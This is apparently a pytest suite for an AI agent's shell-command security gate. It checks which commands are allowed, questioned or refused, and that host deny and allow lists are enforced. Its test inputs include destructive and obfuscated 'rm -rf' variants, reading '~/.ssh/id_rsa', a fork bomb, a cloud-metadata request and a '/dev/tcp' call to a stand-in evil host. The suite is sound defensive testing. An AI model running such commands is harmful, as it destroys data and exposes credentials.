"""The gate `commands`: its answer to each line, who may answer an Ask, and the rung."""

from __future__ import annotations

import pytest

from leeward.security.call import Asker, Cleared
from leeward.security.gates import commands, hosts
from leeward.security.kinds import Effect, Kind
from leeward.security.outcome import PolicyBlocked
from leeward.security.permissions import resolve_asks
from leeward.security.policy import Autonomy, Rule, RuleAction, ShellRules
from leeward.security.trust import TrustLevel
from leeward.security.verdict import Allow, Ask, Deny

KNOWN = "https://docs.example/guide"
NOTHING, QUESTION, FORCED, REFUSED = (Allow, False), (Ask, False), (Ask, True), (Deny, False)

# line → word and force
TABLE = [
    ("git status", QUESTION),
    ("ls -la src | head", NOTHING),
    ("cat README.md && wc -l src/a.py", NOTHING),
    ("make test", QUESTION),
    ("cat ../notes", QUESTION),
    ("git push", QUESTION),
    ("ls > listing.txt", QUESTION),
    ("echo hi; make", QUESTION),
    ("sudo make", FORCED),
    ("ls 'x", FORCED),
    ("$X y", FORCED),
    ("python -c 'print(1)'", FORCED),
    (f"curl {KNOWN}", QUESTION),
    ("curl https://elsewhere.example/", FORCED),
    ("curl http://127.0.0.1:8000/", QUESTION),
    ("curl http://169.254.169.254/latest", REFUSED),
    ("rm -rf /", REFUSED),
    ("r''m -r\\f ~", REFUSED),
    ("bash -c 'env rm -fr -- \"$HOME\"'", REFUSED),
    ("cat ~/.ssh/id_rsa", REFUSED),
    (":(){ :|:& };:", REFUSED),
]


def shell(make, **fields):
    return make.spec("shell", Effect.ALL, kinds={"command": Kind.COMMAND}, **fields)


def said(make, gate, line, *, tool=None, **policy_fields):
    held = make.policy(**policy_fields)
    verdict = gate(
        make.action(tool or shell(make), {"command": line}, held=held),
        make.session(policy=held, said=[KNOWN]),
    )
    return type(verdict), isinstance(verdict, Ask) and verdict.force


def failures(make, gate) -> list[str]:
    return [line for line, word in TABLE if said(make, gate, line) != word]


def test_every_line_gets_its_word(make) -> None:
    assert failures(make, commands) == []


def test_the_obvious_wrong_gate_is_caught(make, planted) -> None:
    assert len(failures(make, planted("commands").commands)) >= 5


def test_without_a_look_at_the_machine_nothing_is_quiet(make) -> None:
    action = make.replace(make.action(shell(make), {"command": "cat README.md"}))
    blind = make.replace(
        action,
        atoms=tuple(
            make.replace(atom, canonical=make.replace(atom.canonical, facts=None)) for atom in action.atoms
        ),
    )
    assert isinstance(commands(blind, make.session()), Ask)


def test_a_line_that_only_reads_has_no_other_effect_and_no_other_question(make) -> None:
    assert make.action(shell(make), {"command": "head -n 3 README.md"}).effects is Effect.READ
    assert make.action(shell(make), {"command": "git commit -m x"}).effects is Effect.ALL
    together = make.spec("both", Effect.ALL, kinds={"command": Kind.COMMAND, "note": Kind.TEXT})
    assert make.action(together, {"command": "ls", "note": "x"}).effects is Effect.ALL, (
        "who knows what the tool does with the note"
    )
    foreign = shell(make, level=TrustLevel.VERIFIED)
    assert make.action(foreign, {"command": "ls"}).effects is Effect.ALL, (
        "who knows what a plug-in does with a line"
    )


@pytest.mark.parametrize(
    ("line", "rules", "shell_rules", "word"),
    [
        ("make test", (), ShellRules(allowed=("make *",)), NOTHING),
        ("make test > x", (), ShellRules(allowed=("make *",)), QUESTION),
        ("sudo make test", (), ShellRules(allowed=("make *", "sudo *")), FORCED),
        ("curl https://elsewhere.example/", (), ShellRules(allowed=("curl *",)), FORCED),
        (f"curl {KNOWN}", (), ShellRules(allowed=("curl *",)), NOTHING),
        ("git push -f", (), ShellRules(blocked=("git push --force", "git push -f")), REFUSED),
        ("nice env git 'push' -\\f", (), ShellRules(blocked=("git push -f",)), REFUSED),
        ("echo 'git push -f'", (), ShellRules(blocked=("git push -f",)), NOTHING),
        ("echo $(ls)", (), ShellRules(), QUESTION),
    ],
)
def test_the_persons_lists_speak_of_what_was_read(make, line, rules, shell_rules, word) -> None:
    assert said(make, commands, line, rules=rules, shell=shell_rules) == word


def test_who_may_answer(make) -> None:
    """A rule answers what it names, full autonomy what was read in full, nobody what is forced."""

    def left(line, **fields):
        held = make.policy(**fields)
        action, session = (
            make.action(shell(make), {"command": line}, held=held),
            make.session(policy=held, said=[KNOWN]),
        )
        ask = commands(action, session)
        return bool(resolve_asks((("commands", ask),), action, session)[0])

    allow = [Rule("shell", RuleAction.ALLOW, match) for match in ("npm test", "make *", None)]
    assert not left("npm test", rules=(allow[0],)) and left("npm test --update", rules=(allow[0],))
    assert not left("make a | tail", rules=(allow[1],)) and left("make a; npm test", rules=(allow[1],))
    assert not left("make a; npm test", rules=tuple(allow[:2]))
    assert not left("npm publish", rules=(allow[2],))
    assert left("sudo make a", rules=tuple(allow)) and left(
        "curl https://elsewhere.example/", rules=tuple(allow)
    )
    assert not left("make a", autonomy=Autonomy.FULL) and left("python -c x", autonomy=Autonomy.FULL)


def test_the_lists_of_hosts_hold_for_commands(make) -> None:
    for line, listed, word in [
        ("curl https://evil.example/x", {"domain_denylist": ("evil.example",)}, Deny),
        ("git clone git@evil.example:a/b", {"domain_denylist": ("evil.example",)}, Deny),
        ("echo x > /dev/tcp/evil.example/80", {"domain_denylist": ("evil.example",)}, Deny),
        ("curl https://other.example/x", {"domain_allowlist": ("docs.example",)}, Deny),
        (f"curl {KNOWN}", {"domain_allowlist": ("docs.example",)}, Allow),
        ("curl http://localhost:8000/", {"domain_allowlist": ("docs.example",)}, Allow),
        ("cat notes-on-evil.example", {"domain_denylist": ("evil.example",)}, Allow),
    ]:
        assert said(make, hosts, line, **listed)[0] is word, line


def test_a_question_names_every_line_and_the_gravest_reason(make) -> None:
    tool = make.spec("two", Effect.ALL, kinds={"a": Kind.COMMAND, "b": Kind.COMMAND, "c": Kind.COMMAND})
    action = make.action(tool, {"a": "ls", "b": "make", "c": "sudo ls"})
    verdict = commands(action, make.session())
    assert [atom.raw for atom in verdict.about] == ["make", "sudo ls"]
    assert verdict.force and verdict.rule == "privilege"


def test_a_suggestion_passes(make) -> None:
    held = make.policy()
    verdict = commands(
        make.action(shell(make), {"command": "sudo cat README.md"}, held=held), make.session(policy=held)
    )
    tool, _, rest = verdict.suggestion.partition(": ")
    assert tool == "shell" and said(make, commands, rest.partition(" (")[0]) == NOTHING


def cleared(make, line, asker=Asker.MODEL, tool=None) -> Cleared:
    async def emit(_):
        raise AssertionError

    return Cleared(make.action(tool or shell(make), {"command": line}, asker=asker), 0.0, emit)


def test_what_runs_is_the_print_of_what_was_read(make) -> None:
    line = "r''m  -- a\\ b   # and more"
    assert cleared(make, line).command("/command") == cleared(make, line).take()["command"] == "rm -- 'a b'"
    assert cleared(make, line, Asker.PERSON).take()["command"] == line, (
        "what a person typed is what they meant"
    )
    dark = "ls 'x"
    assert cleared(make, dark).command("/command") == dark, "shown as it stands, so run as it stands"


def test_the_print_stands_wherever_a_line_was_declared(make) -> None:
    lines = {"type": "array", "items": {"type": "string", "x-leeward-kind": "command"}}
    tool = make.spec(
        "many",
        Effect.ALL,
        schema={
            "type": "object",
            "properties": {"a/b": {"type": "object", "properties": {"~": lines}}, "n": {"type": "integer"}},
        },
    )
    action = make.action(tool, {"a/b": {"~": ["l\\s", "e'ch'o x"]}, "n": 3})

    async def emit(_): ...

    taken = Cleared(action, 0.0, emit).take()
    assert taken["a/b"]["~"] == ("ls", "echo x") and taken["n"] == 3
    assert action.arguments["a/b"]["~"] == ("l\\s", "e'ch'o x"), "what was judged is not changed"


def test_no_line_is_run_that_was_not_judged(make) -> None:
    with pytest.raises(PolicyBlocked):
        cleared(make, "ls").command("/other")
    undeclared = make.spec("free", Effect.ALL, kinds={"command": None})
    with pytest.raises(PolicyBlocked):
        cleared(make, "ls", tool=undeclared).command("/command")
